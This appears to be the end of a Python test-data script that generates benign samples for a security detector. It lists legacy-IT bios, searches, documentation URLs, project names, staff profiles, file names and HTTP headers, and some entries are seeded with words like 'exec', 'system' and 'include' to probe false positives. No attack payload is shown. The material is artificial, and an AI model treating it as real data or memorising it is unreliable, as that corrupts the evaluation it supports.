    "Lotus Notes/Domino admin turned M365 migration lead. Yes, I still have a Notes ID file.",
    "ColdFusion and classic ASP veteran, now mostly C# and Azure. I remember IIS 5.",
    "Middleware engineer: WebLogic, WebSphere, JBoss, Tomcat. Keeping the JVMs alive since 2006.",
    "PHP developer since PHP 4. Drupal, Joomla, a lot of legacy code archaeology.",
    "ERP integration architect, SOAP and XML-RPC services, IDocs, now APIs on the gateway.",
    "Informix and Sybase DBA, retiring both platforms this year, then moving to Postgres.",
]

SEARCHES = [
    "coldfusion", "domino", "lotus notes", "sap basis", "abap", "cobol", "jcl", "cics", "db2", "as400",
    "ibm i", "rpg", "oracle ebs", "apps dba", "weblogic", "websphere", "jboss", "tomcat", "struts", "perl",
    "classic asp", "asp.net", "sharepoint 2007", "informix", "sybase", "mainframe", "php", "drupal", "joomla",
    "vbulletin", "phpmyadmin", "sugarcrm", "soap", "xml-rpc", "angularjs", "mod_plsql", "net.data", "hats",
    "z/os", "s/4hana",
]

URLS = [
    "https://helpx.adobe.com/coldfusion/cfml-reference/coldfusion-tags/tags-c/cfoutput.html",
    "https://help.hcltechsw.com/domino/12.0.0/admin/conf_urlcommands.html",
    "https://learn.microsoft.com/en-us/previous-versions/aspnet/hh882339(v=vs.110)",
    "https://learn.microsoft.com/en-us/iis/application-frameworks/running-classic-asp-applications-on-iis-7"
    "-and-iis-8/classic-asp-not-installed-by-default-on-iis",
    "https://docs.oracle.com/cd/E18727_01/doc.121/e12841/toc.htm",
    "https://docs.oracle.com/middleware/12213/wls/index.html",
    "https://www.ibm.com/docs/en/i/7.5?topic=languages-php",
    "https://www.ibm.com/docs/en/db2-for-zos/13?topic=codes-sql-error",
    "https://www.ibm.com/docs/en/cics-ts/6.x?topic=web-services",
    "https://help.sap.com/docs/SAP_NETWEAVER_750/4a368c163b08418890a406d413933ba7/",
    "https://tomcat.apache.org/tomcat-9.0-doc/manager-howto.html",
    "https://struts.apache.org/migration/",
    "https://www.php.net/manual/en/ini.core.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/language.basic-syntax.phptags.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.drupal.org/docs/upgrading-drupal/upgrading-from-drupal-6-or-7-to-drupal-8-and-newer",
    "https://docs.joomla.org/J1.5:Migrating_from_1.5_to_2.5",
    "https://docs.angularjs.org/guide/migration",
    "https://metacpan.org/pod/CGI",
    "https://www.informix.com/docs/dbexport",
    "https://wiki.example.com/legacy/decommission-checklist?space=IT&page=ColdFusion",
]

PROSE = [
    "ColdFusion 9 decommission checklist",
    "classic ASP timesheet replacement",
    "Lotus Domino mail migration wave 3",
    "names.nsf replica owners",
    "WebLogic 14c upgrade working group",
    "JBoss EAP 5 retirement",
    "Tomcat manager access review",
    "Struts 1 to Spring MVC rewrite",
    "PHP 5 to PHP 8 upgrade owners",
    "Joomla 1.5 archive project",
    "vBulletin forum export team",
    "Drupal 7 end of life task force",
    "SugarCRM to Salesforce data migration",
    "Perl CGI inventory",
    "mod_plsql to APEX rewrite",
    "Net.Data macro rewrite (AS/400)",
    "Informix 14.10 upgrade weekend",
    "Sybase ASE retirement",
    "SAP S/4HANA conversion sandbox 2",
    "SE38 report owners",
    "SM37 job monitoring rota",
    "Oracle EBS 12.2 cutover team",
    "WebSphere Portal to Liferay",
    "SharePoint 2007 site owners",
    "HATS green screen replacement",
    "z/OS Connect pilot",
    "SOAP rates service consumers",
    "copybook CUSTREC owners",
    "PAYRL01D abend S0C7 follow-up",
    "ORA-06512 invoice import issue",
    "CPF9801 job failure",
    "HTTP 500.19 web.config incident",
    "AngularJS replacement (HR self-service)",
    "IE mode exceptions list",
    "disable_functions review for shared PHP hosts",
    "register_globals cleanup in legacy code",
    "unserialize removal in session handler",
    "upload extension allowlist review",
    "auto_prepend_file New Relic config",
    "system and exec usage audit",
]

PROFILES = [
    ("Hiroshi Tanaka (z/OS)", "Mainframe Ops, Building 4, Poughkeepsie"),
    ("Marta Kowalska", "SAP Basis, Walldorf Campus"),
    ("Rajesh Iyer", "Oracle Apps DBA, Whitefield, Bengaluru"),
    ("Claire Dubois", "Domino Admin, La Défense, Paris"),
    ("Tom O'Neill", "Middleware Team, Docklands, Dublin"),
    ("Arun Prakash", "Java Platform, Chennai One SEZ"),
    ("Sabine Müller", "IBM i Development, Ehningen"),
    ("Luis Ortega", "ColdFusion Legacy Apps, Austin"),
    ("Ingrid Larsen", "ERP Integration, Oslo"),
    ("Kwame Mensah", "Informix/Sybase DBA, Accra"),
    ("Fatima Zahra", "PHP Platform Team, Casablanca"),
    ("Peter Novak", "Struts Migration, Brno"),
    ("Grace Lee", "SharePoint Migration, Singapore"),
    ("Dmitri Volkov", "Perl CGI Inventory, Tallinn"),
    ("Ana Ribeiro", "SOAP Services, Porto"),
    ("Joe Script", "Office 12, Leeds"),
    ("Eva Exec", "Finance Systems, Frankfurt"),
    ("Sam System", "Data Centre 2, Swindon"),
    ("Olivia Include", "Web Team, Bristol"),
    ("Mark Domino", "Notes Support, Cork"),
]

UPLOAD_NAMES = [
    "GL_EXTRACT_2024Q2.csv", "ZFI_GL_EXTRACT_job_log.txt", "ST22_TIME_OUT_dump.pdf", "CUSTREC.cpy.txt",
    "PAYRL01D_JESMSGLG.txt", "ACCTUNL.jcl.txt", "names_nsf_replica_report.xlsx", "domino-nsd-2024-06-11.log",
    "weblogic_14c_upgrade_plan.docx", "jboss-eap5-inventory.xlsx", "struts1-actions-remaining.csv",
    "php-ini-diff-legacy-vs-new.txt", "joomla15-archive-readme.pdf", "vbulletin_export_users.csv",
    "sugarcrm_accounts_export.csv", "cgi-bin-traffic-report.xlsx", "ebs_12.2_cutover_runbook.pdf",
    "informix_dbexport_stores_prod.log", "sybase_ase_retirement.pptx", "sharepoint2007-site-owners.xlsx",
    "hats-screens-inventory.xlsx", "soap-rates-wsdl-v3.xml", "coldfusion9-decommission.docx",
    "ie-mode-site-list.xml", "upload-allowlist-review.md",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko"),
    ("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E)"),
    ("User-Agent", "Lotus-Notes/9.0.1"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/1.8.0_402)"),
    ("User-Agent", "SAP NetWeaver Application Server (1.0;753)"),
    ("User-Agent", "PHP-SOAP/5.6.40"),
    ("User-Agent", "libwww-perl/6.77"),
    ("Referer", "https://portal.example.com/irj/portal?NavigationTarget=navurl://3f1c2d"),
    ("Referer", "https://ebs.example.com/OA_HTML/OA.jsp?OAFunc=OAHOMEPAGE"),
    ("Referer", "https://notes.example.com/mail/jdoe.nsf/($Inbox)?OpenView"),
    ("Referer", "https://intranet.example.com/timesheet/default.aspx?week=2024-24"),
    ("Referer", "https://legacy.example.com/cgi-bin/report.pl?dept=finance&month=2024-05"),
    ("Referer", "https://wiki.example.com/index.php?title=Legacy_decommission&action=history"),
    ("X-Api-Version", "2024-06-01"),
    ("SOAPAction", "\"urn:rates#getRates\""),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; JSESSIONID=0000Xy7Qm1:18ab2c3d; sap-usercontext=sap-client=100"),
    ("Cookie", "session=abc123; ASP.NET_SessionId=k3v1n2b0x5q4w7e9; theme=classic"),
    ("X-Forwarded-For", "10.20.30.40"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
